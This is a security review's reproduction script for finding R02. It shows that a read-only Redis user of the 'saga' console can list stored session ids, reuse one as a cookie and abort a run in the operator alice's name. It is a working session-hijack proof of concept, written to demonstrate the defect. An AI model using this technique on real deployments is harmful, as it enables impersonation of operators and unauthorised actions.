"""R02: whoever can only read Redis can act as any logged-in console operator.

(The review's reproduction, adapted to the sessions' new format: a session no longer stores
a CSRF token, so the script posts what the session does store, with its key's name as the
cookie. Run it from the review's folder, which holds ``rv3``.)

Defect: a console session is kept in Redis under its raw id, ``saga:web:session:<id>``, with
its CSRF token in clear in the value (saga/web/auth.py l.85-94, ``open_session``). The cookie
value IS that id. So the Redis ``readonly`` ACL user that compose.yaml and docs/deployment.md
make for "readers of your own (a dashboard)" (read commands on ``saga:*`` keys only), or anyone
holding an RDB/AOF copy, can list live sessions, read their CSRF tokens and post every console
form (abort, approve, deny, requeue, resolve) as the operator, in the operator's name. The
bearer tokens are stored as SHA-256 precisely so that "a copy of the table opens nothing"
(docs/api.md); the 8-hour sessions minted from them are not.

Steps:
  1. On the private Redis, an ACL user with exactly compose.yaml's ``readonly`` rules
     (``resetchannels -@all +@read +@connection -@dangerous %R~saga:*``); it is shown to be
     refused a write.
  2. ``saga serve``; alice (operate token) starts a hosted run over the API and logs into the
     console, as an operator does.
  3. With the read-only Redis connection alone: SCAN ``saga:web:session:*``, GET the value.
  4. POST the console's abort form with ``Cookie: saga_session=<id>`` and that CSRF token.
Expected: a read-only Redis credential cannot act on runs (sessions kept by digest, as tokens).
Actual: 303, the run is aborted, its reason says "(by alice)".
"""

from __future__ import annotations

import json
import uuid

import redis
import rv3

USER = "rv3readonly"
RULES = ["resetchannels", "-@all", "+@read", "+@connection", "-@dangerous", "%R~saga:*"]


def main() -> None:
    rv3.fresh_redis()
    admin = rv3.redis_client()
    password = uuid.uuid4().hex
    admin.execute_command("ACL", "SETUSER", USER, "reset", "on", f">{password}", *RULES)
    rv3.on_exit(lambda: admin.execute_command("ACL", "DELUSER", USER))

    server = rv3.Server()
    alice_token = rv3.token("alice", "operate")
    alice = server.api(alice_token)
    run_id = f"r02-{uuid.uuid4().hex[:8]}"
    assert (
        alice.post(
            "/api/runs", json={"agent": "refund", "input": "hi", "run_id": run_id}
        ).status_code
        == 201
    )
    operator = rv3.Console(server)
    operator.login(alice_token)
    print(
        "alice is logged into the console; run",
        run_id,
        "is",
        alice.get(f"/api/runs/{run_id}").json()["state"],
    )

    host = rv3.REDIS_URL.split("//", 1)[1].split("/", 1)[0]
    reader = redis.Redis.from_url(f"redis://{USER}:{password}@{host}/0", decode_responses=True)
    try:
        reader.set("saga:probe", "x")
        refused_write = False
    except redis.exceptions.NoPermissionError:
        refused_write = True
    print("the read-only user is refused a write:", refused_write)
    sessions = list(reader.scan_iter(match="saga:web:session:*"))
    print("sessions the read-only user lists:", len(sessions))
    # Adapted: a session's value no longer holds a CSRF token; post whatever it holds.
    session_id = sessions[0].removeprefix("saga:web:session:")
    stored = json.loads(reader.get(sessions[0]))
    print("and reads:", sorted(stored), "token_id", stored["token_id"])
    stored.setdefault("csrf", str(stored.get("opened", "")))

    outsider = server.api()  # no token, no login: the id and the CSRF token read from Redis
    answer = outsider.post(
        f"/console/runs/{run_id}/abort",
        data={"csrf": stored["csrf"], "reason": "aborted by a read-only Redis user"},
        headers={"Cookie": f"saga_session={session_id}"},
    )
    doc = alice.get(f"/api/runs/{run_id}").json()
    print(f"abort posted with the stolen session -> {answer.status_code};", end=" ")
    print(f"run is {doc['state']}: {doc['reason']!r}")
    reader.close()
    rv3.verdict(
        refused_write
        and answer.status_code == 303
        and doc["state"] != "running"
        and "(by alice)" in doc["reason"]
    )


if __name__ == "__main__":
    main()
